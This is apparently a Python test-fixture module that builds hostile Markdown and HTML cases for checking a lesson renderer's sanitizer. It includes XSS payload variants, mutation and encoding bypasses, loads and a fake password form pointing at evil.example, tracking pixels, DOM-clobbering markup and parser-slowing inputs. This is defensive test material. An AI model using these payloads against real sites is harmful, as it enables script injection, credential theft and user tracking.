"""Hostile Markdown of our own making: each family combines what attacks are made of. `xss()` would be the attack."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from itertools import product

from peerlearn.lessons import rules
from peerlearn.lessons.fileformat import Card, Front, LessonFile, print_file
from peerlearn.quizzes.question import Entry, Question

CALL = "xss()"
EVIL = "//evil.example"

SCRIPTS = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script >{}</script >",
    "<script/x>{}</script>",
    "<script\n>{}</script\n>",
    "<script\t>{}</script>",
    "<<script>{}//<</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<script>/*\n\n*/{}</script>",
    "<script type=module>{}</script>",
    "<script x='>'>{}</script>",
    '<script src="data:text/javascript,{}"></script>',
    "<script src=//evil.example/x.js></script>",
    "<script async src=https://evil.example/x.js>",
    "<svg><script>{}</script></svg>",
    "<svg><script href=data:text/javascript,{}></script></svg>",
    "<template><script>{}</script></template>",
    "<noscript><script>{}</script></noscript>",
)
PLACES = (
    "{}",
    "A line before. {} And one after.",
    "> {}",
    "- {}",
    "1. {}",
    "# {}",
    "| a | b |\n| --- | --- |\n| {} | c |",
    '!!! note "A title"\n    {}',
    "Text[^1].\n\n[^1]: {}",
    "Term\n:   {}",
    "**{}**",
)
EVENTS = (
    ("img", "src=x onerror"),
    ("img", "src=/x onload"),
    ("svg", "onload"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("video", "src=x onerror"),
    ("audio", "src=x onerror"),
    ("video", "autoplay onloadstart"),
    ("details", "open ontoggle"),
    ("input", "autofocus onfocus"),
    ("select", "autofocus onfocus"),
    ("textarea", "autofocus onfocus"),
    ("button", "autofocus onfocus"),
    ("a", "href=# onclick"),
    ("p", "onmouseover"),
    ("p", "tabindex=1 onfocus"),
    ("div", "onanimationstart"),
    ("iframe", "onload"),
    ("object", "data=x onerror"),
    ("marquee", "onstart"),
    ("form", "onsubmit"),
    ("style", "onload"),
    ("link", "rel=stylesheet href=/x onerror"),
    ("x-own", "tabindex=1 autofocus onfocus"),
)
HANDLERS = ("{}={}", "{}\n=\n'{}'", '{}="{}"', "{}=`{}`", "{}&#61;{}", "{}/={}")
SCHEMES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    " javascript:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "javascript&colon;{}",
    "javascript&#58;{}",
    "&#106;avascript:{}",
    "&#x6A&#x61;vascript:{}",
    "javascript\u200b:{}",
    "\x01javascript:{}",
    "javascript://%0a{}",
    "java%73cript:{}",
    "vbscript:{}",
    "livescript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={}>",
    "blob:{}",
    "filesystem:{}",
    "feed:javascript:{}",
    "view-source:javascript:{}",
)
LINKS = (
    "[click]({})",
    "[click](<{}>)",
    '[click]({} "title")',
    "[click][1]\n\n[1]: {}",
    "[click][]\n\n[click]: <{}>",
    "<{}>",
    "![picture]({})",
    "[![picture](/media/x.webp)]({})",
)
CARRIERS = (
    '<a href="{}">click</a>',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>click</button></form>',
    '<button formaction="{}">click</button>',
    '<svg><a xlink:href="{}"><text y="20">click</text></a></svg>',
    '<object data="{}"></object>',
)
QUOTES = ('"', "'", "`", "&quot;", "&#34;", '\\"', '"">', "\u201d")
BREAKOUTS = (
    "[click](/lessons {q}title{q} onmouseover={c} {q})",
    "[click](/lessons '{q} onclick={c} x=')",
    "![{q} onerror={c} x={q}](/media/x.webp)",
    "![alt](/media/x.webp {q}t{q} onerror={c})",
    "[1]: /lessons {q}t{q} onclick={c} {q}\n\n[click][1]",
    "```{q} onmouseover={c}\ncode\n```",
    "!!! note {q}t{q} onmouseover={c}\n    Text",
    "# Heading {{: onmouseover={q}{c}{q} }}",
    "[^{q} onclick={c}]: note\n\nText[^{q} onclick={c}]",
)
STYLES = (
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<style>@font-face{font-family:x;src:url(//evil.example/f)}*{font-family:x}</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<p style='position:fixed;inset:0'>cover</p>",
    "<p style=width:expression(xss())>x</p>",
    "<div style='-moz-binding:url(//evil.example/x)'>x</div>",
    "<style>p{animation:x}@keyframes x{}</style><p onanimationstart=xss()>x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=preload as=script href=//evil.example/x.js>",
    "<style><img src=x onerror=xss()></style>",
    "<svg><style>*{fill:url(//evil.example/x#a)}</style></svg>",
)
EMBEDS = (
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>parent.xss()</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=parent.xss()&gt;'></iframe>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x.swf>",
    "<embed src=javascript:xss()>",
    "<applet code=x></applet>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:xss()'>",
    "<meta http-equiv=Set-Cookie content=x=y>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<video poster=//evil.example/x></video>",
    "<video><source src=//evil.example/x></video>",
    "<audio src=//evil.example/x autoplay></audio>",
    "<track src=//evil.example/x>",
    "<input type=image src=//evil.example/x>",
    "<frameset><frame src=//evil.example></frameset>",
    "<portal src=//evil.example></portal>",
    "<table background=//evil.example/x><tr><td>x</td></tr></table>",
)
MUTATIONS = (
    "<math><mtext><table><mglyph><style><img src=x onerror=xss()></style></mglyph></table></mtext></math>",
    "<svg></p><style><a id='</style><img src=x onerror=xss()>'></a></svg>",
    "<noscript><p title='</noscript><img src=x onerror=xss()>'></noscript>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=xss()>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=xss()></annotation-xml></math>",
    "<svg><foreignObject><img src=x onerror=xss()></foreignObject></svg>",
    "<svg><desc><img src=x onerror=xss()></desc></svg>",
    "<svg><animate onbegin=xss() attributeName=x dur=1s></svg>",
    "<svg><set attributeName=href to=javascript:xss()></set></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=a onload=xss()>#a'></use></svg>",
    "<select><template><img src=x onerror=xss()></template></select>",
    "<textarea></textarea><img src=x onerror=xss()>",
    "<title></title><img src=x onerror=xss()>",
    "<xmp></xmp><img src=x onerror=xss()>",
    "<plaintext><img src=x onerror=xss()>",
    "<listing>&lt;img src=x onerror=xss()&gt;</listing>",
    "<noembed></noembed><img src=x onerror=xss()>",
    "<iframe></iframe><img src=x onerror=xss()>",
    "<option><style></option></select><img src=x onerror=xss()></style>",
    "<a href='&#1;javascript:xss()'>click</a>",
)
CONFUSIONS = (
    "<!-- --!><img src=x onerror=xss()> -->",
    "<!--><img src=x onerror=xss()>-->",
    "<![CDATA[<img src=x onerror=xss()>]]>",
    "<?php ?><img src=x onerror=xss()>",
    "<!DOCTYPE html><img src=x onerror=xss()>",
    "</p><img src=x onerror=xss()>",
    "`code`<img src=x onerror=xss()>`",
    "``<img src=x onerror=xss()>`",
    "```\ncode\n````<img src=x onerror=xss()>",
    "```html\n<img src=x onerror=xss()>",
    "    code\n<img src=x onerror=xss()>",
    "\\<img src=x onerror=xss()\\>",
    "<img src=x\n\nonerror=xss()>",
    "<img src=x onerror=xss()//",
    "<img src=x onerror=xss()",
    "<im<b>g src=x onerror=xss()>",
    "| a |\n| - |\n| `|`<img src=x onerror=xss()> |",
    "[a](<b)\n<img src=x onerror=xss()>",
    "![a](x\n<img src=x onerror=xss()>)",
    "*a <img src=x onerror=xss()>*",
    "[<img src=x onerror=xss()>](/lessons)",
    "![<img src=x onerror=xss()>](/media/x.webp)",
    "Text[^<img src=x onerror=xss()>]\n\n[^<img src=x onerror=xss()>]: note",
    "Term <img src=x onerror=xss()>\n:   Meaning",
)
SPELLINGS = (
    "&lt;img src=x onerror=xss()&gt;",
    "&amp;lt;script&amp;gt;xss()&amp;lt;/script&amp;gt;",
    "&#60;script&#62;xss()&#60;/script&#62;",
    "&#x3c;script&#x3e;xss()&#x3c;/script&#x3e;",
    "&#0000060script&#0000062xss()",
    "%3Cscript%3Exss()%3C/script%3E",
    "\\u003cscript\\u003exss()\\u003c/script\\u003e",
    "\uff1cscript\uff1exss()\uff1c/script\uff1e",
    "\u2039script\u203axss()\u2039/script\u203a",
    "<\u200bscript>xss()</script>",
    "<scr\u00adipt>xss()</script>",
    "<script\u2028>xss()</script>",
    "\ufeff<script>xss()</script>",
    "<\x00script>xss()</script>",
    "<scr\x00ipt>xss()</script>",
    "<img src=x on\x00error=xss()>",
    "\u202e<img src=x onerror=xss()>\u202c",
    "+ADw-script+AD4-xss()+ADw-/script+AD4-",
    "\x1b$B<script>xss()</script>",
    "<\u0131mg src=x onerror=xss()>",
    "<\u017fcript>xss()</\u017fcript>",
)
TRACKERS = (
    "![p](https://evil.example/p.png)",
    "![p](http://evil.example/p.png)",
    "![p](//evil.example/p.png)",
    "![p](\\\\evil.example/p.png)",
    "![p](/\\evil.example/p.png)",
    "![p](https:evil.example/p.png)",
    "![p](/media/../..//evil.example/p.png)",
    "![p](data:image/png;base64,iVBORw0KGgo=)",
    "![p](ftp://evil.example/p.png)",
    "![p][1]\n\n[1]: https://evil.example/p.png",
    "<img src=https://evil.example/p.png>",
    "<img srcset='//evil.example/p.png 2x'>",
    "<picture><source srcset=//evil.example/p.png><img></picture>",
    "<img src=/media/x.webp lowsrc=//evil.example/p.png>",
    "<img src=x longdesc=//evil.example>",
    "<a ping=//evil.example href=/lessons>click</a>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<link rel=icon href=//evil.example/i.png>",
)
CLOBBERS = (
    "<a id=csrf_token name=csrf_token>x</a>",
    "<form id=search><input name=action></form>",
    "<img name=body>",
    "<a id=document href=#>x</a>",
    "<div id=main role=main>x</div>",
    "# Title {: #csrf_token }",
    "# Title {: .btn data-keep-form }",
    "<input name=csrf_token value=x>",
    "<p class='dialog' hidden data-module='practice/keeper'>x</p>",
    "<button form=sign-out type=submit>x</button>",
    "<label for=password>x</label>",
    "<p is=x-own slot=y part=z>x</p>",
    "<p contenteditable tabindex=1 accesskey=s autofocus>x</p>",
    "<a target=_blank href=/lessons>x</a>",
    "<a download href=/lessons>x</a>",
)


def families() -> dict[str, list[str]]:
    """All cases by family."""
    return {name: list(dict.fromkeys(cases())) for name, cases in FAMILIES.items()}


def _scripts() -> Iterator[str]:
    for number, (script, place) in enumerate(product(SCRIPTS, PLACES)):
        if number % 2 == 0 or place == "{}":
            yield place.format(script.format(CALL))


def _events() -> Iterator[str]:
    for (tag, attribute), handler in product(EVENTS, HANDLERS):
        head, _, name = attribute.rpartition(" ")
        yield f"<{tag} {head} {handler.format(name, CALL)}>x</{tag}>"


def _links() -> Iterator[str]:
    for link, scheme in product(LINKS, SCHEMES):
        yield link.format(scheme.format(CALL))


def _addresses() -> Iterator[str]:
    for carrier, scheme in product(CARRIERS, SCHEMES[::2]):
        yield carrier.format(scheme.format(CALL))


def _breakouts() -> Iterator[str]:
    for breakout, quote in product(BREAKOUTS, QUOTES):
        yield breakout.format(q=quote, c=CALL)


FAMILIES = {
    "scripts": _scripts,
    "handlers": _events,
    "links": _links,
    "addresses": _addresses,
    "breakouts": _breakouts,
    "styles": lambda: iter(STYLES),
    "embeds": lambda: iter(EMBEDS),
    "mutations": lambda: iter(MUTATIONS),
    "confusions": lambda: iter(CONFUSIONS),
    "spellings": lambda: iter(SPELLINGS),
    "trackers": lambda: iter(TRACKERS),
    "clobbers": lambda: iter(CLOBBERS),
}


def heavy(size: int) -> dict[str, str]:
    """Texts of about so many characters that make a careless parser slow."""
    return {
        "brackets": "[" * size,
        "brackets closed": "[" * (size // 2) + "]" * (size // 2),
        "brackets and parentheses": "[a](" * (size // 4),
        "pictures": "![" * (size // 2),
        "pictures nested": "![a" * (size // 6) + "](x)" * (size // 8),
        "stars": "*" * size,
        "stars and letters": "*a " * (size // 3),
        "stars mixed": "**a *b " * (size // 7),
        "underscores": "_a" * (size // 2),
        "backticks": "".join("`" * n + "a" for n in range(1, int((2 * size) ** 0.5))),
        "backticks open": "`a" * (size // 2),
        "tags open": "<a" * (size // 2),
        "less than": "<" * size,
        "comments": "<!--" * (size // 4),
        "declarations": "<![" * (size // 3),
        "instructions": "<?" * (size // 2),
        "entities": "&" * size,
        "entities numbered": "&#" * (size // 2),
        "quotes nested": ">" * size,
        "quotes by line": "> " * 50 + "\n" + "> a\n" * (size // 4),
        "lists nested": "".join("  " * n + "- a\n" for n in range(int(size**0.5))),
        "lists": "- a\n" * (size // 4),
        "lists numbered": "1. a\n" * (size // 5),
        "rules": "---\n" * (size // 4),
        "headings": "# a\n" * (size // 4),
        "heading signs": "#" * size,
        "tables": "|" * size,
        "tables wide": "|a" * (size // 4) + "\n" + "|-" * (size // 4),
        "tables long": "| a |\n| - |\n" + "| b |\n" * (size // 6),
        "footnotes": "[^a]" * (size // 4) + "\n\n[^a]: b",
        "footnotes own": "".join(f"[^{n}]: a\n" for n in range(size // 9)),
        "references": "".join(f"[{n}]: /a\n" for n in range(size // 9)),
        "references used": "[a]: /b\n\n" + "[a]" * (size // 3),
        "terms": "a\n: b\n\n" * (size // 7),
        "fences": "```\n" * (size // 4),
        "fences named": "```python\n" * (size // 10),
        "tildes": "~" * size,
        "callouts": '!!! note "a"\n    b\n\n' * (size // 20),
        "callouts nested": "".join("    " * n + "!!! note\n" for n in range(int(size**0.5) // 2)),
        "backslashes": "\\" * size,
        "addresses": "http://a " * (size // 9),
        "address long": "http://" + "a." * (size // 2),
        "mail": "<a@" * (size // 3),
        "spaces": " " * size + "a",
        "line ends": "\n" * size,
        "tabs": "\ta\n" * (size // 3),
        "attributes": "# a {: " + "a=b " * (size // 4) + "}",
        "letters": "a" * size,
        "marks": "a\u0301" * (size // 2),
        "directions": "\u202e" * size,
    }


def heavy_lesson(name: str) -> str:
    """A whole lesson as heavy as its bounds allow, every text of it short enough to be quick alone."""
    text = heavy(1_900)[name][:1_900].strip()
    cards = tuple(Card(f"Card {number}", text) for number in range(1, 8))
    entries = tuple(Entry(f"step {number}", f"{number}") for number in range(1, 4))
    front = Front(title="A heavy lesson", summary="As heavy as it may be.", kind="how-to", topics=("testing",))
    front = replace(front, id="heavy-lesson", why_longer="It shows what is too much of it.")
    questions = tuple(
        Question(kind="ordering", uid=f"q{number:04}", stem=f"{text}\n\n{number}", entries=entries, why=text)
        for number in range(1, 61)
    )
    for count in range(len(questions), 0, -1):
        source = print_file(LessonFile(front=front, cards=cards, questions=questions[:count]))
        if len(source) <= rules.POLICY.source_maximum:
            return source
    raise AssertionError(name)
